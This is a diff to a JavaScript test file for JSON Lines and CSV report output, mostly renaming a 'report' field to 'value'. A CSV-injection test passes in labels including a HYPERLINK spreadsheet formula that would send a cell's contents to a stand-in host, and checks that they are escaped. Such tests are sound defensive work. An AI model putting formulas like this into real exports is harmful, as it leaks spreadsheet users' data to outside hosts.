@@ -28,7 +28,7 @@ const faulty = {
 
 describe('as JSON Lines', () => {
   test('an answer is the report on one line, or the line and the faults in words', () => {
-    expect(jsonLine({ ok: true, line: 3, report })).toBe(`${JSON.stringify(report)}\n`);
+    expect(jsonLine({ ok: true, line: 3, value: report })).toBe(`${JSON.stringify(report)}\n`);
     expect(jsonLine(faulty)).toBe('{"line":7,"errors":["stains.p53: x, allowed: a, b","case: y \\"z\\""]}\n');
   });
 });
@@ -37,7 +37,7 @@ describe('as CSV', () => {
   const columns = summaryColumns.map(({ name }) => name);
 
   test('a report is a row below the names of what it holds', () => {
-    const text = csvHeader(plainDialect) + csvRow({ ok: true, line: 3, report }, plainDialect);
+    const text = csvHeader(plainDialect) + csvRow({ ok: true, line: 3, value: summaryOf(report) }, plainDialect);
     const { best, support, interval, unmet } = summaryOf(report);
     expect(rowsOf(text, ',')).toEqual([
       ['line', ...columns, 'errors'],
@@ -105,7 +105,7 @@ describe('as CSV', () => {
     '＠A1',
     '=HYPERLINK("http://x/?"&A1)',
   ])('%j is no formula', (label) => {
-    const text = csvRow({ ok: true, line: 2, report: { ...report, case: { ...report.case, label } } }, plainDialect);
+    const text = csvRow({ ok: true, line: 2, value: { ...summaryOf(report), label } }, plainDialect);
     const [, cell] = rowsOf(text, ',')[0] ?? [];
     expect(cell).toBe(`'${label}`);
   });
